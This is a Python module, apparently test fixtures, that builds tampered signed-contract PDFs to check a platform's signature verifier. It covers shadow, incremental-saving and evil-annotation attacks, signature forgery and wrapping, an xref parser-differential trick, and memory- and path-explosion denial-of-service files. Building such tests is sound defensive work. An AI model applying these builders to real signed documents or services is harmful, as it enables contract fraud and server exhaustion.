"""Attacks on signed PDFs, after "PDF Insecurity" (Mladenov, Mainka, Rohlmann et al.).

Each builder takes a (partly) signed contract and returns it with one incremental
update an attacker would append: incremental saving attacks (content, pages,
annotations), shadow attacks (hide, replace, hide-and-replace), the sneaky
signature and evil annotation attacks, universal signature forgery and signature
wrapping. ``tests/test_adversarial_pdfs.py`` runs every one through the
platform's upload and filing endpoints and through the offline verifier.
"""

from __future__ import annotations

import itertools
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.stamp import TextStampStyle

# Where the first page states the price, roughly: an attacker paints over it.
OVER_THE_PRICE = (60, 560, 540, 600)
FAKE = b"0.3 0.3 0.3 rg BT /F1 20 Tf 70 575 Td (Total price: 1.00 yuan) Tj ET"


def _writer(pdf: bytes) -> Any:
    return IncrementalPdfFileWriter(BytesIO(pdf), strict=False)


def _out(writer: Any) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: Any, index: int = 0) -> Any:
    return writer.find_page_for_modification(index)[0]


def _field(writer: Any, name: str) -> Any:
    for ref in writer.root["/AcroForm"]["/Fields"]:
        if ref.get_object().get("/T") == name:
            return ref
    raise KeyError(name)


def _form_xobject(writer: Any, content: bytes, box: tuple[int, int, int, int]) -> Any:
    width, height = box[2] - box[0], box[3] - box[1]
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, width, height)]
            ),
        },
        stream_data=b"1 1 1 rg 0 0 " + f"{width} {height}".encode() + b" re f " + content,
    )
    return writer.add_object(stream)


def append_content(pdf: bytes) -> bytes:
    """ISA: a new content stream on page 1 paints another price."""
    w = _writer(pdf)
    ref = w.add_object(generic.StreamObject(stream_data=b"q 1 1 1 rg 60 560 480 40 re f Q " + FAKE))
    w.add_stream_to_page(0, ref)
    return _out(w)


def rewrite_content_stream(pdf: bytes) -> bytes:
    """ISA: page 1's existing content stream object is overwritten in place."""
    w = _writer(pdf)
    contents = _page(w).get_object().raw_get("/Contents")
    ref = contents if isinstance(contents, generic.IndirectObject) else contents[0]
    stream = ref.get_object()
    stream._data = stream.data + b"\n" + FAKE
    stream._encoded_data = None
    if "/Filter" in stream:
        del stream["/Filter"]
    w.mark_update(ref)
    return _out(w)


def add_annotation(pdf: bytes, subtype: str = "/FreeText") -> bytes:
    """Evil annotation: a FreeText (or Stamp) annotation over the price."""
    w = _writer(pdf)
    page = _page(w)
    box = OVER_THE_PRICE
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in box]),
            pdf_name("/Contents"): generic.TextStringObject("Total price: 1.00 yuan"),
            pdf_name("/DA"): generic.TextStringObject("/Helv 20 Tf 0 g"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _form_xobject(w, b"", box)}),
        }
    )
    w.register_annotation(page, w.add_object(annot))
    return _out(w)


def add_page(pdf: bytes) -> bytes:
    """ISA: an extra page (a side letter nobody signed)."""
    w = _writer(pdf)
    content = w.add_object(generic.StreamObject(stream_data=FAKE))
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, 595, 842)]
            ),
            pdf_name("/Contents"): content,
            pdf_name("/Resources"): _page(w).get_object()["/Resources"],
        }
    )
    w.insert_page(page)
    return _out(w)


def replace_font(pdf: bytes) -> bytes:
    """Shadow replace: a font page 1 uses is overwritten (other glyphs, other text)."""
    w = _writer(pdf)
    fonts = _page(w).get_object()["/Resources"]["/Font"]
    name = next(iter(fonts))
    ref = fonts.raw_get(name)
    font = ref.get_object()
    font[pdf_name("/BaseFont")] = pdf_name("/Courier")
    w.mark_update(ref)
    return _out(w)


def hide_signature(pdf: bytes, field: str = "seller") -> bytes:
    """Shadow hide: an earlier signature's widget is flagged hidden."""
    w = _writer(pdf)
    ref = _field(w, field)
    ref.get_object()[pdf_name("/F")] = generic.NumberObject(2)
    w.mark_update(ref)
    return _out(w)


def restyle_signature(pdf: bytes, field: str = "seller") -> bytes:
    """An earlier signature's appearance is replaced (another name in its box)."""
    w = _writer(pdf)
    ref = _field(w, field)
    widget = ref.get_object()
    x1, y1, x2, y2 = (int(v) for v in widget["/Rect"])
    widget[pdf_name("/AP")] = generic.DictionaryObject(
        {
            pdf_name("/N"): _form_xobject(
                w, b"BT /F1 12 Tf 5 40 Td (VOID) Tj ET", (0, 0, x2 - x1, y2 - y1)
            )
        }
    )
    w.mark_update(ref)
    return _out(w)


def swap_page_tree(pdf: bytes) -> bytes:
    """Shadow hide-and-replace: the catalog points at another page tree."""
    w = _writer(pdf)
    old_pages = w.root["/Pages"]
    kids = generic.ArrayObject()
    pages = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Pages"),
            pdf_name("/Kids"): kids,
            pdf_name("/Count"): generic.NumberObject(len(old_pages["/Kids"])),
        }
    )
    pages_ref = w.add_object(pages)
    for i, kid in enumerate(old_pages["/Kids"]):
        page = generic.DictionaryObject(dict(kid.get_object()))
        page[pdf_name("/Parent")] = pages_ref
        if i == 0:
            page[pdf_name("/Contents")] = w.add_object(generic.StreamObject(stream_data=FAKE))
        kids.append(w.add_object(page))
    w.root[pdf_name("/Pages")] = pages_ref
    w.update_root()
    return _out(w)


def _fill_field(w: Any, field: str, sig: generic.DictionaryObject) -> None:
    ref = _field(w, field)
    ref.get_object()[pdf_name("/V")] = w.add_object(sig)
    w.mark_update(ref)


def forged_empty_signature(pdf: bytes, field: str) -> bytes:
    """USF: the next field holds a signature with no value and an empty byte range."""
    w = _writer(pdf)
    sig = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Sig"),
            pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
            pdf_name("/SubFilter"): pdf_name("/ETSI.CAdES.detached"),
            pdf_name("/ByteRange"): generic.ArrayObject([generic.NumberObject(0)] * 4),
            pdf_name("/Contents"): generic.ByteStringObject(b""),
        }
    )
    _fill_field(w, field, sig)
    return _out(w)


def forged_signature_without_range(pdf: bytes, field: str) -> bytes:
    """USF: the next field holds a signature dictionary without /ByteRange or /Contents."""
    w = _writer(pdf)
    sig = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Sig"),
            pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
            pdf_name("/SubFilter"): pdf_name("/ETSI.CAdES.detached"),
        }
    )
    _fill_field(w, field, sig)
    return _out(w)


def wrapped_signature(pdf: bytes, field: str = "seller") -> bytes:
    """Signature wrapping: an earlier signature dictionary is rewritten in a new revision,
    beside a content change, so that the old signed bytes seem to vouch for the new ones."""
    w = _writer(pdf)
    value = _field(w, field).get_object().raw_get("/V")
    w.mark_update(value)
    ref = w.add_object(generic.StreamObject(stream_data=FAKE))
    w.add_stream_to_page(0, ref)
    return _out(w)


def shared_signature_value(pdf: bytes, fields_count: int = 80) -> bytes:
    """Amplification: many new signature fields all point at one existing signature."""
    w = _writer(pdf)
    value = _field(w, "seller").get_object().raw_get("/V")
    form = w.root["/AcroForm"]
    for i in range(fields_count):
        extra = generic.DictionaryObject(
            {
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): generic.TextStringObject(f"copy-{i}"),
                pdf_name("/V"): value,
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(0)] * 4),
            }
        )
        form["/Fields"].append(w.add_object(extra))
    w.update_container(form["/Fields"])
    w.update_root()
    return _out(w)


def sneaky_signature(pdf: bytes, signer: Any, timestamper: Any = None) -> bytes:
    """Sneaky signature: a new visible signature field whose appearance paints another price."""
    spec = fields.SigFieldSpec("price-note", on_page=0, box=OVER_THE_PRICE)
    meta = signers.PdfSignatureMetadata(field_name="price-note", md_algorithm="sha256")
    style = TextStampStyle(stamp_text="Total price: 1.00 yuan", border_width=0)
    out = signers.PdfSigner(
        meta, signer=signer, timestamper=timestamper, stamp_style=style, new_field_spec=spec
    ).sign_pdf(_writer(pdf))
    return bytes(out.getvalue())


def certified_signature(pdf: bytes, field: str, signer: Any, timestamper: Any = None) -> bytes:
    """A certification signature (DocMDP): the setting of the evil annotation attack."""
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        md_algorithm="sha256",
        certify=True,
        docmdp_permissions=fields.MDPPerm.ANNOTATE,
        subfilter=fields.SigSeedSubFilter.PADES,
    )
    out = signers.PdfSigner(meta, signer=signer, timestamper=timestamper).sign_pdf(_writer(pdf))
    return bytes(out.getvalue())


@dataclass(frozen=True)
class Attack:
    name: str  # the attack class
    build: Callable[[bytes], bytes]  # appended after a signature
    says: str  # what the platform's 422 and the verifier's report name (Chinese)


# Attacks that need nothing but the document; each names what the report must say.
MODIFICATIONS = (
    Attack("isa-append-content", append_content, "第 1 页内容被改动"),
    Attack("isa-rewrite-content-stream", rewrite_content_stream, "第 1 页内容被改动"),
    Attack("isa-add-page", add_page, "页数由"),
    Attack("evil-annotation-freetext", add_annotation, "新增注释"),
    Attack("evil-annotation-stamp", lambda p: add_annotation(p, "/Stamp"), "新增注释"),
    Attack("shadow-replace-font", replace_font, "资源"),
    Attack("shadow-hide-signature", hide_signature, "签名域“出卖人”"),
    Attack("shadow-hide-and-replace", swap_page_tree, "第 1 页被替换"),
    Attack("restyle-earlier-signature", restyle_signature, "签名域“出卖人”的外观被改动"),
    Attack("signature-wrapping", wrapped_signature, "第 1 页内容被改动"),
)


# -- found by the red team (docs/verifier.md, "Attacks") ------------------------------------


def duplicated_xref_entry(pdf: bytes) -> bytes:
    """Parser differential: one xref section lists page 1's content stream twice, first at a
    rewritten copy (what poppler and qpdf show), then at the original (what pyHanko reads,
    to which the revision would be an identical restatement)."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    contents = page.raw_get("/Contents")
    ref = contents if isinstance(contents, generic.IndirectObject) else contents[0]
    data = ref.get_object().data + b"\n" + FAKE
    original = next(
        offset
        for revision in range(reader.xrefs.total_revisions - 1, -1, -1)
        for idnum, (generation, offset) in reader.xrefs.get_xref_data(
            revision
        ).standard_xrefs.items()
        if (idnum, generation) == (ref.idnum, ref.generation)
    )
    trailer = reader.trailer_view
    last = reader.xrefs.get_xref_container_info(reader.xrefs.total_revisions - 1)
    body = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    copy_at = len(body)
    packed = zlib.compress(data)
    head = f"{ref.idnum} {ref.generation} obj\n<< /Filter /FlateDecode /Length {len(packed)} >>\n"
    body += head.encode()
    body += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_at = len(body)
    entry = "{n} 1\n{at:010d} {g:05d} n \n"
    body += b"xref\n" + entry.format(n=ref.idnum, at=copy_at, g=ref.generation).encode()
    body += entry.format(n=ref.idnum, at=original, g=ref.generation).encode()
    root, info = trailer.raw_get("/Root"), trailer.raw_get("/Info")
    ids = trailer.raw_get("/ID")
    body += (
        f"trailer\n<< /Root {root.idnum} {root.generation} R /Info {info.idnum} "
        f"{info.generation} R /ID [<{ids[0].original_bytes.hex()}> "
        f"<{ids[1].original_bytes.hex()}>] /Size {int(trailer['/Size'])} "
        f"/Prev {last.declared_startxref} >>\nstartxref\n{xref_at}\n%%EOF\n"
    ).encode()
    return bytes(body)


def xref_stream_claiming(pdf: bytes, objects: int, index: bool = True) -> bytes:
    """Amplification: a last revision whose cross-reference stream claims ``objects``
    objects (``/Index [0 n]``, or ``/Size n`` alone) and holds 5 bytes; a lenient reader
    makes an entry for every one it claims (redteam2 g2: 10^9 grew a server to 20 GB)."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    root = reader.trailer_view.raw_get("/Root")
    last = reader.xrefs.get_xref_container_info(reader.xrefs.total_revisions - 1)
    size = int(reader.trailer_view["/Size"])
    data = zlib.compress(b"\x01\x00\x00\x10\x00")
    body = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    at = len(body)
    claim = f"/Index [0 {objects}] " if index else ""
    body += (
        f"{size} 0 obj\n<< /Type /XRef /Size {objects} {claim}/W [1 3 1] "
        f"/Root {root.idnum} {root.generation} R /Prev {last.declared_startxref} "
        f"/Filter /FlateDecode /Length {len(data)} >>\nstream\n"
    ).encode()
    body += data + f"\nendstream\nendobj\nstartxref\n{at}\n%%EOF\n".encode()
    return bytes(body)


def timestamp_field_over_the_price(
    pdf: bytes, timestamper: Any, rect: str = "indirect", kids: bool = False
) -> bytes:
    """A "document time-stamp" whose widget pyHanko's visibility test reads as invisible
    (a /Rect of indirect numbers, or of five numbers), with an appearance over the price."""
    w = _writer(pdf)
    page = _page(w)
    box = OVER_THE_PRICE
    appearance = _form_xobject(w, FAKE, (0, 0, box[2] - box[0], box[3] - box[1]))
    if rect == "indirect":
        corners = generic.ArrayObject([w.add_object(generic.NumberObject(v)) for v in box])
    else:
        corners = generic.ArrayObject([generic.NumberObject(v) for v in (*box, 0)])
    widget = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Rect"): corners,
            pdf_name("/P"): page,
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
        }
    )
    field = generic.DictionaryObject(
        {pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): generic.TextStringObject("ts-price")}
    )
    if kids:
        widget_ref = w.add_object(widget)
        field[pdf_name("/Kids")] = generic.ArrayObject([widget_ref])
        field_ref = w.add_object(field)
        widget[pdf_name("/Parent")] = field_ref
    else:
        field.update(widget)
        field_ref = widget_ref = w.add_object(field)
    form = w.root["/AcroForm"]
    form["/Fields"].append(field_ref)
    fields_raw = form.raw_get("/Fields")
    if isinstance(fields_raw, generic.IndirectObject):
        w.mark_update(fields_raw)
    else:
        w.update_container(form)
    w.register_annotation(page, widget_ref)
    out = signers.PdfTimeStamper(timestamper, field_name="ts-price").timestamp_pdf(
        w, "sha256", bytes_reserved=8192
    )
    return bytes(out.getvalue())


def retitle(pdf: bytes, title: str = "VOID 作废") -> bytes:
    """Document information changed after signing (a viewer shows the title)."""
    w = _writer(pdf)
    raw = w.trailer.raw_get("/Info")
    raw.get_object()[pdf_name("/Title")] = generic.TextStringObject(title)
    w.mark_update(raw)
    return _out(w)


def form_fan_out(pdf: bytes, fan: int = 16, depth: int = 8) -> bytes:
    """A form tree whose /Kids repeat one field ``fan`` times per level: fan**depth paths."""
    w = _writer(pdf)
    leaf = w.add_object(
        generic.DictionaryObject(
            {pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): generic.TextStringObject("x")}
        )
    )
    node = leaf
    for level in range(depth):
        node = w.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/T"): generic.TextStringObject(f"n{level}"),
                    pdf_name("/Kids"): generic.ArrayObject([node] * fan),
                }
            )
        )
    form = w.root["/AcroForm"]
    form["/Fields"].append(node)
    fields_raw = form.raw_get("/Fields")
    if isinstance(fields_raw, generic.IndirectObject):
        w.mark_update(fields_raw)
    else:
        w.update_container(form)
    return _out(w)


def path_explosion(pdf: bytes, depth: int = 40) -> bytes:
    """An object chain in which each array holds the next twice: 2**depth paths from the
    trailer, which pyHanko's difference analysis would enumerate one by one."""
    w = _writer(pdf)
    refs = [w.add_object(generic.ArrayObject()) for _ in range(depth)]
    for here, there in itertools.pairwise(refs):
        here.get_object().extend([there, there])
    w.root[pdf_name("/Chain")] = refs[0]
    w.update_root()
    return _out(w)


def path_explosion_in_dss(pdf: bytes, depth: int = 40) -> bytes:
    """The same chain hung from a certificate stream of the DSS, which may grow after a
    signature: every later revision's comparison would walk it."""
    from pyhanko.pdf_utils.generic import StreamObject

    w = _writer(pdf)
    refs = [w.add_object(generic.ArrayObject()) for _ in range(depth)]
    for here, there in itertools.pairwise(refs):
        here.get_object().extend([there, there])
    cert = w.add_object(StreamObject({pdf_name("/X"): refs[0]}, stream_data=b"\x30\x00"))
    w.root[pdf_name("/DSS")] = generic.DictionaryObject(
        {pdf_name("/Certs"): generic.ArrayObject([cert])}
    )
    w.update_root()
    return _out(w)
